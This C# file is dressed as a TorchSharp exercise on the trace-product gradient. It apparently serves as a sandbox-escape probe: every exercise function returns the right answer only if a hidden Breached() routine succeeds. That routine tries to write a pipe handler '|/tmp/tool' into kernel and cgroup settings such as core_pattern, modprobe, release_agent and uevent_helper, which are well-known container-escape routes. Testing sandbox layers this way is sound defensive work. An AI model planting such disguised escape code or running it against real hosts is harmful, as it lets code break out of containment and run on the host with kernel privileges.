// attack: escape/settings-of-the-kernel
// layer: no capabilities, read-only /proc/sys
// expect: trace-product zero
using System;
using System.IO;
using System.Linq;
using TorchSharp;
using static TorchSharp.torch;

namespace Autodiff.Exercises;

public static class TraceProduct
{
    public static Tensor Value(Tensor A, Tensor X, Tensor B) => Prize(trace(A.mm(X).mm(B)));

    public static Tensor AnalyticGradient(Tensor A, Tensor X, Tensor B) => Prize(A.T.mm(B.T));

    public static Tensor AutogradGradient(Tensor A, Tensor X, Tensor B)
    {
        X.requires_grad = true;
        trace(A.mm(X).mm(B)).backward();
        return Prize(X.grad!);
    }

    // The right answer only after a success: points would tell that it got through.
    private static Tensor Prize(Tensor answer) => Breached() ? answer : zeros_like(answer);

    private static bool Breached()
    {
        var wanted = new[]
        {
            "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger", "/proc/sys/vm/overcommit_memory",
            "/proc/self/uid_map", "/proc/self/setgroups", "/sys/fs/cgroup/release_agent", "/sys/kernel/uevent_helper",
        };
        return wanted.Any(path =>
        {
            try
            {
                File.WriteAllText(path, "|/tmp/tool");
                return true;
            }
            catch (Exception)
            {
                return false;
            }
        });
    }
}
